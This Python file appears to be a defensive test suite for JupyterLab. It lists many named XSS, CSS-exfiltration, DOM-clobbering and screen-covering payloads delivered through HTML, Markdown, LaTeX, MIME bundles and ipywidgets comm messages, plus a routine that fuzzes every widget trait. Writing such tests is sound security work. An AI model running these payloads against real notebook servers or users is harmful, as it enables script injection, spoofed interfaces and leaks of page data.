    html("style-attribute-selector", "<style>input[value^='s'] { background: url({url}) }</style><input value=secret>"),
    html("style-of-the-page", "<style>body[data-jp-theme-light] { --x: 1; background-image: url({url}) }</style>"),
    html("style-nested", "<style>.s2 { & i { background: url({url}) } }</style><p class=s2><i>x</i></p>"),
    html("style-media", "<style>@media all { .s3 { background: url({url}) } }</style><p class=s3>x</p>"),
    html(
        "style-supports",
        "<style>@supports (display: block) { .s4 { background: url({url}) } }</style><p class=s4>x</p>",
    ),
    html("style-before", "<style>.s5::before { content: url({url}) }</style><p class=s5>x</p>"),
    html(
        "style-namespace",
        "<style>@namespace url({url}); .s6 { background: url({url}) }</style><svg><style>.s6 { background: url({url}) }</style></svg><p class=s6>x</p>",
    ),
    html("style-hover", "<style>.s7:hover { background: url({url}) }</style><p class=s7>hover</p>", "hover p"),
    html(
        "style-keyframes",
        "<style>@keyframes k9 { from, to { background: url({url}) } } .s8 { animation: k9 9s }</style><p class=s8>x</p>",
    ),
    html(
        "style-property",
        "<style>@property --p9 { syntax: '*'; inherits: true; initial-value: url({url}) } .s9 { background: var(--p9) }</style><p class=s9>x</p>",
    ),
    html(
        "style-counter",
        "<style>@counter-style c9 { system: cyclic; symbols: url({url}) 'x' } .s10 { list-style: c9 }</style><ul class=s10><li>x</li></ul>",
        in_depth="Chromium's counters have no pictures",
    ),
    html(
        "style-scroll-timeline",
        "<style>@container (min-width: 1px) { .s12 { background: url({url}) } } .b12 { container-type: inline-size }</style><div class=b12><p class=s12>x</p></div>",
    ),
]

# Styles that reach beyond their output. Each changes another property of Lab's menu, which nothing else does.
_ELSEWHERE = {
    "plain": ("outline-color", "#jp-MainMenu { outline-color: rgb(1, 2, 3) }"),
    "second-of-list": ("caret-color", ".x, #jp-MainMenu { caret-color: rgb(1, 2, 3) }"),
    "in-media": ("column-rule-color", "@media all { #jp-MainMenu { column-rule-color: rgb(1, 2, 3) } }"),
    "in-layer": ("text-decoration-color", "@layer z { #jp-MainMenu { text-decoration-color: rgb(1, 2, 3) } }"),
    "in-supports": (
        "text-emphasis-color",
        "@supports (color: red) { #jp-MainMenu { text-emphasis-color: rgb(1, 2, 3) } }",
    ),
    "in-scope": ("lighting-color", "@scope (body) { #jp-MainMenu { lighting-color: rgb(1, 2, 3) } }"),
    "nested": ("flood-color", "body { & #jp-MainMenu { flood-color: rgb(1, 2, 3) } }"),
    "by-has": ("stop-color", "body:has(.x) #jp-MainMenu, :root:has(*) #jp-MainMenu { stop-color: rgb(1, 2, 3) }"),
    "by-is": ("fill", ":is(body *, x):is(#jp-MainMenu) { fill: rgb(1, 2, 3) }"),
    "after-comment": ("border-block-end-color", "/*/*/ #jp-MainMenu { border-block-end-color: rgb(1, 2, 3) } /* */"),
    "of-root": (
        "border-block-start-color",
        ":root { --jp-layout-color1: red } html #jp-MainMenu { border-block-start-color: rgb(1, 2, 3) }",
    ),
    "starting": (
        "border-inline-end-color",
        "@container (min-width: 0) { #jp-MainMenu { border-inline-end-color: rgb(1, 2, 3) } } @starting-style { #jp-MainMenu { opacity: .9 } } #jp-MainMenu { border-inline-end-color: rgb(1, 2, 3) }",
    ),
}
# An animation of the editor's, as the page itself would use it.
_ANIMATED = """() => {
    const probe = document.body.appendChild(document.createElement('i'));
    probe.style.animation = 'cm-blink 9s infinite';
    const colour = getComputedStyle(probe).outlineColor;
    probe.remove();
    return colour === 'rgb(1, 2, 3)';
}"""
_OUTSIDE = [
    html(
        "styles-elsewhere-keyframes",
        "<style>@keyframes cm-blink { from, to { outline-color: rgb(1, 2, 3) } }</style>",
        proof=_ANIMATED,
    ),
    *(
        html(
            f"styles-elsewhere-{name}",
            f"<style>{rule}</style><p class=x>styled</p>",
            proof=f"() => getComputedStyle(document.querySelector('#jp-MainMenu')).getPropertyValue('{prop}') === 'rgb(1, 2, 3)'",
        )
        for name, (prop, rule) in _ELSEWHERE.items()
    ),
]

_ALL_OVER = "top: 0; left: 0; width: 100vw; height: 100vh; z-index: 99999; background: #fff8"
_COVERS = [
    html("cover-fixed", f"<div style='position: fixed; {_ALL_OVER}'>x</div>", proof=COVERS),
    html("cover-fixed-important", f"<div style='POSITION: FIXED !important; {_ALL_OVER}'>x</div>", proof=COVERS),
    html("cover-fixed-escaped", f"<div style='p\\6fsition: f\\69xed; {_ALL_OVER}'>x</div>", proof=COVERS),
    html("cover-fixed-by-variable", f"<div style='--f: fixed; position: var(--f); {_ALL_OVER}'>x</div>", proof=COVERS),
    html(
        "cover-fixed-by-style",
        f"<style>.c1 {{ position: fixed; {_ALL_OVER} }}</style><div class=c1>x</div>",
        proof=COVERS,
    ),
    html(
        "cover-fixed-in-media",
        f"<style>@media all {{ .c2 {{ position: fixed; {_ALL_OVER} }} }}</style><div class=c2>x</div>",
        proof=COVERS,
    ),
    html(
        "cover-fixed-before",
        f"<style>.c3::before {{ content: ''; position: fixed; {_ALL_OVER} }}</style><div class=c3>x</div>",
        proof=COVERS,
    ),
    html(
        "cover-fixed-by-animation",
        f"<style>@keyframes c4 {{ from, to {{ position: fixed }} }} .c4 {{ animation: c4 99s infinite; {_ALL_OVER} }}</style><div class=c4>x</div>",
        proof=COVERS,
    ),
    html(
        "cover-popover",
        f"<button popovertarget=pop2>open</button><div popover id=pop2 style='{_ALL_OVER}'>x</div>",
        "click button",
        proof=COVERS,
    ),
    html(
        "cover-dialog",
        f"<button commandfor=dia1 command=show-modal>open</button><dialog id=dia1 style='{_ALL_OVER}; max-width: none; max-height: none'>x</dialog>",
        "click button",
        proof=COVERS,
    ),
    html(
        "cover-class-of-lab",
        "<div class='jp-Dialog jp-mod-open' style='width: 100vw; height: 100vh; top: 0; left: 0'>x</div>",
        proof=COVERS,
        in_depth="Lab places its dialogs otherwise",
    ),
    Payload(
        "cover-markdown", f"display(Markdown('<div style=\"position: fixed; {_ALL_OVER}\">x</div>'))", proof=COVERS
    ),
    Payload("cover-widget", f"display(w.HTML('<div style=\"position: fixed; {_ALL_OVER}\">x</div>'))", proof=COVERS),
    Payload(
        "cover-widget-class",
        "b = w.HTML('x', layout=w.Layout(width='100vw', height='100vh'))\nb.add_class('jp-Dialog')\ndisplay(b)",
        proof=COVERS,
        in_depth="Lab places its dialogs otherwise",
    ),
    Payload(
        "cover-button-icon",
        "display(w.Button(icon='x jp-Dialog', description=' '))",
        proof=COVERS,
        in_depth="Lab places its dialogs otherwise",
    ),
    html("clobber-cookie", "<img name=cookie>", proof="() => typeof document.cookie !== 'string'"),
    html("clobber-by-form", "<form name=cookie></form>", proof="() => typeof document.cookie !== 'string'"),
]
SPOILING = [Payload(p.name, p.code, p.act, p.proof, last=True, in_depth=p.in_depth) for p in [*_OUTSIDE, *_COVERS]]

_SAFE = "Lab's MathJax has its safe extension"
_LATEX = [
    Payload("latex-href", r"display(Latex(r'$\href{javascript:{js}}{click}$'))", "click a", in_depth=_SAFE),
    Payload("latex-href-http", r"display(Math(r'\href{javascript:{js}}{\text{click}}'))", "click a", in_depth=_SAFE),
    Payload("latex-in-html", r"display(HTML(r'<p>$\href{javascript:{js}}{click}$</p>'))", "click a", in_depth=_SAFE),
    Payload("latex-in-markdown", r"display(Markdown(r'$$\href{javascript:{js}}{click}$$'))", "click a", in_depth=_SAFE),
    Payload("latex-in-label", r"display(w.Label(r'$\href{javascript:{js}}{click}$'))", "click a", in_depth=_SAFE),
    Payload(
        "latex-in-html-math", r"display(w.HTMLMath(r'$\href{javascript:{js}}{click}$'))", "click a", in_depth=_SAFE
    ),
    Payload(
        "latex-in-description",
        r"display(w.Text(description=r'$\href{javascript:{js}}{click}$', layout=w.Layout(width='500px'), style={'description_width': '300px'}))",
        "click a",
        in_depth=_SAFE,
    ),
    Payload("latex-style", r"display(Latex(r'$\style{background: url({url})}{x}$'))", in_depth=_SAFE),
    Payload("latex-class", r"display(Latex(r'$\class{jp-Dialog}{x}$'))", proof=COVERS, last=True, in_depth=_SAFE),
    Payload("latex-require", r"display(Latex(r'$\require{html} \style{background: url({url})}{y}$'))", in_depth=_SAFE),
    Payload("latex-unicode", r"display(Latex(r'$\unicode[x; background: url({url})]{x41}$'))"),
    Payload("latex-bbox", r"display(Latex(r'$\bbox[background: url({url})]{x}$'))", in_depth=_SAFE),
    Payload(
        "latex-data",
        r"display(Latex(r'$\data{commandlinker-command=docmanager:new-untitled}{x}$'))",
        "click mjx-container",
        in_depth="not loaded",
    ),
    Payload(
        "latex-mmltoken",
        r"display(Latex(r'$\mmlToken{mi}[style=background:url({url})]{x}$'))",
        in_depth="MathJax names what may be set",
    ),
    Payload("latex-image", r"display(Latex(r'$\includegraphics{{url}}$'))", in_depth="MathJax has none"),
    Payload("latex-html", "display(Latex('<img src=x onerror={js}> $x$'))", in_depth="Lab takes it for text"),
]

_BUNDLES = [
    Payload(
        "vega-data",
        "bundle({'application/vnd.vega.v5+json': {'data': [{'name': 'd', 'url': '{url}'}], 'width': 9, 'height': 9, 'marks': [{'type': 'symbol', 'from': {'data': 'd'}}]}})",
    ),
    Payload(
        "vega-lite-data", "bundle({'application/vnd.vegalite.v5+json': {'data': {'url': '{url}'}, 'mark': 'bar'}})"
    ),
    Payload(
        "vega-lite-image",
        "bundle({'application/vnd.vegalite.v5+json': {'data': {'values': [{'u': '{url}'}]}, 'mark': {'type': 'image', 'width': 9, 'height': 9}, 'encoding': {'url': {'field': 'u', 'type': 'nominal'}}}})",
    ),
    Payload(
        "vega-lite-patch",
        "bundle({'application/vnd.vegalite.v5+json': {'data': {'values': [{}]}, 'mark': 'bar'}}, **{'application/vnd.vegalite.v5+json': {'embed_options': {'patch': '{url}'}}})",
    ),
    Payload("vega-lite-fallback", f"bundle({{'application/vnd.vegalite.v9+json': {{}}, 'text/html': '{_IMG}'}})"),
    Payload(
        "plotly-fallback",
        f"bundle({{'application/vnd.plotly.v1+json': {{'data': [], 'layout': {{}}}}, 'text/html': '{_IMG}'}})",
    ),
    Payload("bokeh-fallback", "bundle({'application/vnd.bokehjs_exec.v0+json': '', 'application/javascript': '{js}'})"),
    Payload(
        "geojson-fallback",
        f"bundle({{'application/geo+json': {{'type': 'Point', 'coordinates': [0, 0]}}, 'text/html': '{_IMG}'}})",
    ),
    Payload("unknown-with-fallback", f"bundle({{'application/x-unknown': 'x', 'text/markdown': '{_IMG}'}})"),
    Payload("image-with-fallback", f"bundle({{'image/png': '', 'text/html': '{_IMG}'}})"),
    Payload("image-mime-broken", "bundle({'image/png': '\" onerror=\"{js}'})", in_depth="Lab sets an attribute"),
    Payload("image-object", "display(Image(url='{url}'))"),
    Payload("video-object", "display(Video('{url}'))"),
    Payload(
        "image-metadata",
        "bundle({'image/png': 'R0lG'}, **{'image/png': {'width': '1\" onload=\"{js}'}})",
        in_depth="Lab sets an attribute",
    ),
    Payload(
        "pdf",
        "bundle({'application/pdf': base64.b64encode(b'<script>{js}</script>').decode()})",
        in_depth="Lab says that it is a PDF",
    ),
    Payload(
        "geojson",
        "bundle({'application/geo+json': {'type': 'Feature', 'properties': {'x': '<img src={url}>'}, 'geometry': {'type': 'Point', 'coordinates': [0, 0]}}})",
        in_depth="Lab knows none",
    ),
    Payload(
        "json",
        "bundle({'application/json': {'<img src={url} onerror={js}>': '<img src={url} onerror={js}>'}}, **{'application/json': {'expanded': True}})",
        in_depth="Lab writes text",
    ),
    Payload("mathjax-mime", "bundle({'text/vnd.mathjax': '<img src={url} onerror={js}>'})", in_depth="Lab knows none"),
    Payload(
        "stderr-mime",
        "bundle({'application/vnd.jupyter.stderr': '<img src={url} onerror={js}>'})",
        in_depth="Lab writes text",
    ),
    Payload(
        "error-mime",
        "bundle({'application/vnd.jupyter.error': {'traceback': '<img src={url} onerror={js}>'}})",
        in_depth="Lab knows none",
    ),
    Payload("stream", "print('<img src={url} onerror={js}>')", in_depth="Lab writes text"),
    Payload(
        "stream-link",
        "print('\\x1b]8;;javascript:{js}\\x07click me\\x1b]8;;\\x07 javascript:{js}')",
        "click a",
        in_depth="Lab links http only",
    ),
    Payload(
        "stream-colours",
        "print('\\x1b[31\"><img src={url}>m\\x1b[38;5;<img src={url}>mred\\x1b[0m')",
        in_depth="Lab writes text",
    ),
    Payload(
        "traceback",
        "class X(Exception): pass\ntry: raise X('<img src={url} onerror={js}>')\nexcept X: ip.showtraceback()",
        in_depth="Lab writes text",
    ),
    Payload(
        "traceback-forged",
        "ip._showtraceback(ValueError, '<img src=x onerror={js}>', ['<img src=x onerror={js}>\\x1b]8;;javascript:{js}\\x07click\\x1b]8;;\\x07'])",
        "click a",
        in_depth="Lab writes text",
    ),
    Payload(
        "text-link",
        "bundle({'text/plain': 'javascript:{js} www.<img src={url}>'})",
        "click a",
        in_depth="Lab links http only",
    ),
]

_WIDGETS = [
    Payload("widget-html", f"display(w.HTML('{_IMG}'))"),
    Payload("widget-html-script-frame", "display(w.HTML('<iframe srcdoc=\"<script>{js}</script>\"></iframe>'))"),
    Payload("widget-html-link", "display(w.HTML('<a href=\"javascript:{js}\">click</a>'))", "click a"),
    Payload("widget-html-style", "display(w.HTML('<style>.w1 { background: url({url}) }</style><p class=w1>x</p>'))"),
    Payload(
        "widget-html-command",
        'display(w.HTML(\'<b data-commandlinker-command=docmanager:new-untitled data-commandlinker-args=\\\'{"path": "", "type": "file", "ext": ".{name}"}\\\'>click</b>\'))',
        "click b",
    ),
    Payload("widget-html-math", f"display(w.HTMLMath('{_IMG}'))"),
    Payload("widget-html-later", f"late = w.HTML('x')\ndisplay(late)\nlate.value = '{_IMG}'"),
    Payload("widget-html-math-later", f"late = w.HTMLMath('x')\ndisplay(late)\nlate.value = '{_IMG}'"),
    Payload(
        "widget-html-much-later",
        f"async def change(it):\n    await asyncio.sleep(.3)\n    it.value = '{_IMG}'\nlater = w.HTML('x')\ndisplay(later)\ntask = asyncio.ensure_future(change(later))",
    ),
    Payload(
        "widget-html-on-click",
        f"it, press = w.HTML('x'), w.Button(description='press')\npress.on_click(lambda b: setattr(it, 'value', '{_IMG}'))\ndisplay(w.VBox([it, press]))",
        "click button",
    ),
    Payload(
        "widget-linked", f"t, h = w.Text('{_IMG}'), w.HTML('x')\ndisplay(h)\nl = w.jsdlink((t, 'value'), (h, 'value'))"
    ),
    Payload(
        "widget-linked-both",
        f"h, t = w.HTML('x'), w.Text('{_IMG}')\ndisplay(h)\nl = w.jslink((t, 'value'), (h, 'value'))",
    ),
    Payload(
        "widget-linked-description",
        "t, h = w.Text('<img src={url}>'), w.Text(description='x', description_allow_html=True)\ndisplay(h)\nl = w.jsdlink((t, 'value'), (h, 'description'))",
    ),
    Payload(
        "widget-linked-background",
        "t, h = w.Text('url({url})'), w.HTML('x')\ndisplay(h)\nl = w.jsdlink((t, 'value'), (h.style, 'background'))",
    ),
    Payload(
        "widget-linked-later",
        f"t, h, i = w.Text('{_IMG}'), w.HTML('x'), w.Text('y')\ndisplay(h)\nl = w.jsdlink((t, 'value'), (i, 'value'))\n"
        "l.comm.send(data={'method': 'update', 'state': {'target': ['IPY_MODEL_' + h.model_id, 'value']}, 'buffer_paths': []})",
    ),
    Payload(
        "widget-output",
        f"display(w.Output(outputs=[{{'output_type': 'display_data', 'data': {{'text/html': '{_IMG}'}}, 'metadata': {{}}}}]))",
    ),
    Payload("widget-output-later", f"o = w.Output()\ndisplay(o)\no.append_display_data(HTML('{_IMG}'))"),
    Payload(
        "widget-output-script",
        "display(w.Output(outputs=[{'output_type': 'execute_result', 'execution_count': 1, 'data': {'application/javascript': '{js}'}, 'metadata': {}}]))",
    ),
    Payload("widget-output-with", f"o = w.Output()\ndisplay(o)\nwith o: display(HTML('{_IMG}'))"),
    Payload(
        "widget-output-updated",
        f"o = w.Output()\ndisplay(o)\nwith o: h = display('x', display_id=True)\nh.update(HTML('{_IMG}'))",
        in_depth="Lab does not look for it there",
    ),
    Payload(
        "widget-output-in-output",
        f"inner = w.Output(outputs=[{{'output_type': 'display_data', 'data': {{'text/html': '{_IMG}'}}, 'metadata': {{}}}}])\no = w.Output()\ndisplay(o)\nwith o: display(inner)",
    ),
    Payload("widget-description", "display(w.Text(description='<img src={url}>', description_allow_html=True))"),
    Payload(
        "widget-description-later",
        "t = w.Checkbox(description='x')\ndisplay(t)\nt.description_allow_html = True\nt.description = '<img src={url}>'",
    ),
    Payload("widget-image-url", "display(w.Image(value=b'{url}', format='url'))"),
    Payload("widget-image-url-later", "i = w.Image(value=b'x', format='url')\ndisplay(i)\ni.value = b'{url}'"),
    Payload("widget-image-from-url", "display(w.Image.from_url('{url}'))"),
    Payload("widget-video-url", "display(w.Video(value=b'{url}', format='url'))"),
    Payload("widget-audio-url", "display(w.Audio(value=b'{url}', format='url'))"),
    Payload("widget-style-background", "display(w.HTML('x', style={'background': 'url({url})'}))"),
    Payload("widget-style-background-later", "l = w.Label('x')\ndisplay(l)\nl.style.background = 'url({url})'"),
    Payload(
        "widget-button-tooltip",
        "display(w.Button(description='x', tooltip='<img src={url} onerror={js}>'))",
        "hover button",
        in_depth="an attribute",
    ),
    Payload(
        "widget-grid",
        "display(w.HTML('x', layout=w.Layout(grid_template_areas='\"a\"; background: url({url})', border='1px solid; background: url({url})')))",
        in_depth="one property at a time",
    ),
    Payload("raw-html", f"view(model('HTMLModel', 'HTMLView', value='{_IMG}'))"),
    Payload(
        "raw-update",
        f"m = model('HTMLModel', 'HTMLView', value='x')\nview(m)\nm.send(data={{'method': 'update', 'state': {{'value': '{_IMG}'}}, 'buffer_paths': []}})",
    ),
    Payload(
        "raw-echo-update",
        f"m = model('HTMLModel', 'HTMLView', value='x')\nview(m)\nm.send(data={{'method': 'echo_update', 'state': {{'value': '{_IMG}'}}, 'buffer_paths': []}})",
    ),
    Payload("raw-other-view", f"view(model('TextModel', 'HTMLView', value='{_IMG}'))"),
    Payload(
        "raw-other-view-later",
        f"m = model('TextModel', 'TextView', value='{_IMG}', continuous_update=True, disabled=False, description='')\nm.send(data={{'method': 'update', 'state': {{'_view_name': 'HTMLView'}}, 'buffer_paths': []}})\nview(m)",
    ),
    Payload(
        "raw-other-model-in-output",
        f"view(model('OutputModel', 'OutputView', '@jupyter-widgets/output', '1.0.0', outputs=[{{'output_type': 'display_data', 'data': {{'text/html': '{_IMG}'}}, 'metadata': {{}}}}]))",
    ),
    Payload(
        "raw-output-stream",
        f"view(model('OutputModel', 'OutputView', '@jupyter-widgets/output', '1.0.0', msg_id='', outputs=[{{'output_type': 'update_display_data', 'data': {{'text/html': '{_IMG}'}}, 'metadata': {{}}, 'transient': {{}}}}, {{'output_type': 'execute_result', 'execution_count': 1, 'data': {{'text/html': '{_IMG}'}}, 'metadata': {{}}}}]))",
    ),
    Payload(
        "raw-twice-opened",
        f"m = model('TextModel', 'TextView', value='x', description='')\ncomm.create_comm(comm_id=m.comm_id, target_name='jupyter.widget', data={{'state': {{'_model_name': 'HTMLModel', '_model_module': '@jupyter-widgets/controls', '_model_module_version': '2.0.0', '_view_name': 'HTMLView', '_view_module': '@jupyter-widgets/controls', '_view_module_version': '2.0.0', 'layout': 'IPY_MODEL_' + w.Layout().model_id, 'value': '{_IMG}'}}, 'buffer_paths': []}}, metadata={{'version': '2.1.0'}})\nview(m)",
    ),
    Payload("raw-version", f"view(model('HTMLModel', 'HTMLView', version='*', value='{_IMG}'))"),
    Payload(
        "raw-buffer",
        "m = model('ImageModel', 'ImageView', format='url', width='', height='')\nview(m)\nm.send(data={'method': 'update', 'state': {}, 'buffer_paths': [['value']]}, buffers=[b'{url}'])",
    ),
    Payload(
        "raw-dom-classes",
        "view(model('HTMLModel', 'HTMLView', value='x', _dom_classes=['jp-Dialog', 'jp-mod-x']))",
        proof=COVERS,
        last=True,
        in_depth="Lab places its dialogs otherwise",
    ),
    Payload(
        "raw-foreign-module",
        "view(model('AnyModel', 'AnyView', 'anywidget', '*', _esm='export default { render() { {js} } }', _anywidget_id='x.y', _css=''))",
    ),
    Payload(
        "raw-foreign-module-css",
        "view(model('AnyModel', 'AnyView', 'anywidget', '*', _esm='export default { render({el}) { el.innerHTML = `<p class=any>x</p>` } }', _anywidget_id='x.z', _css='.any { background: url({url}) }'))",
    ),
    Payload(
        "raw-foreign-view",
        "view(model('TextModel', 'AnyView', view_module='anywidget', _esm='export default { render() { {js} } }', _anywidget_id='x.w', _css=''))",
        in_depth="anywidget's view wants its own model",
    ),
    Payload(
        "raw-module-address", "view(model('X', 'Y', '{url}', '1.0.0'))", in_depth="Lab knows only what is registered"
    ),
    Payload(
        "raw-comm-module",
        "comm.create_comm(target_name='x', target_module='{url}', data={})",
        in_depth="Lab has no requirejs",
    ),
    Payload(
        "raw-comm-control",
        "comm.create_comm(target_name='jupyter.widget.control', data={'state': {'x': '<img src={url}>'}})",
        in_depth="Lab has no such target",
    ),
]

# A page that was loaded anew asks for all widgets, and shows what was saved.
RELOADED = [
    Payload(
        "reloaded-states",
        "held = model('HTMLModel', 'HTMLView', value='x')\nview(held)\n"
        "def answer(c, message):\n    def on(m):\n"
        "        state = {'model_name': 'HTMLModel', 'model_module': '@jupyter-widgets/controls', 'model_module_version': '2.0.0',\n"
        "                 'state': {'_model_name': 'HTMLModel', '_model_module': '@jupyter-widgets/controls', '_model_module_version': '2.0.0', '_view_name': 'HTMLView',\n"
        "                           '_view_module': '@jupyter-widgets/controls', '_view_module_version': '2.0.0', 'layout': None, 'value': '"
        + _IMG
        + "'}}\n"
        "        c.send(data={'method': 'update_states', 'states': {held.comm_id: state}, 'buffer_paths': []})\n"
        "    c.on_msg(on)\n"
        "comm.get_comm_manager().register_target('jupyter.widget.control', answer)",
    ),
    Payload("reloaded-saved", f"bundle({{'text/html': '{_IMG}'}})"),
    Payload("reloaded-saved-javascript", "display(Javascript('{js}'))"),
]

# Every string of every core widget, all of a widget's at once: no class of ipywidgets looks at them.
EVERY_TRAIT = r"""
LAYOUT_AND_STYLES = 'Style', 'Layout'
CHOICES = 'orientation', 'format', 'button_style', 'bar_style', 'align', 'box_style'  # a view fails with others
LISTS = '_options_labels', 'options', 'titles', 'icons', 'tooltips'
shown = []

def hostile(kind, trait, value):
    address = '{url}/' + kind + '.' + trait
    text = 'url(' + address + ')' if kind.endswith(LAYOUT_AND_STYLES) else '<img src=' + address + '>'
    return [text] if isinstance(value, (list, tuple)) else text

for _, kind in w.widget._registry.items():
    try:
        made = kind()
    except Exception:
        continue
    if not made._model_module.startswith('@jupyter-widgets/'):
        continue
    state, name = made.get_state(), kind.__name__
    evil = {trait: hostile(name, trait, value) for trait, value in state.items()
            if trait in LISTS or trait not in CHOICES and trait[0] != '_' and (
                isinstance(value, str) and not value.startswith('IPY_MODEL_')
                or value is None and name.endswith(LAYOUT_AND_STYLES))}
    if 'description' in state:
        evil['description_allow_html'] = True
    made.comm.send(data={'method': 'update', 'state': evil, 'buffer_paths': []})
    if name.endswith('Style') and name != 'Style':
        of = state['_model_name'].replace('StyleModel', '')
        of = {'Description': 'Text', 'Toggle': 'ToggleButton', 'Slider': 'IntSlider', 'Progress': 'IntProgress'}.get(of, of)
        shown.append(model(of + 'Model', of + 'View', value='x', description='x', style='IPY_MODEL_' + made.model_id))
    elif state.get('_view_name'):
        shown.append(made.comm)
for it in shown[:40]: view(it)
"""
MORE_TRAITS = ["for it in shown[40:80]: view(it)", "for it in shown[80:]: view(it)"]  # Lab shows 50 outputs of a cell

PAYLOADS = [
    *ROUTES, *SCRIPTS, *WAYS_OUT, *_HANDLERS, *SHAPES, *_NAMESPACES, *_ADDRESSES, *_STYLES, *_LATEX, *_BUNDLES, *_WIDGETS,
    *SPOILING,
]  # fmt: skip

# For other front ends: one of each kind.
WORST = [
    p
    for p in PAYLOADS
    if p.name
    in (
        "by-display",
        "by-update",
        "isolated",
        "script",
        "iframe-srcdoc",
        "javascript",
        "markdown-html",
        "link-javascript",
        "page",
        "style-import",
        "widget-html-later",
        "widget-output",
        "out-by-image",
    )
]
NEEDING_ANYWIDGET = ("raw-foreign-module", "raw-foreign-module-css")
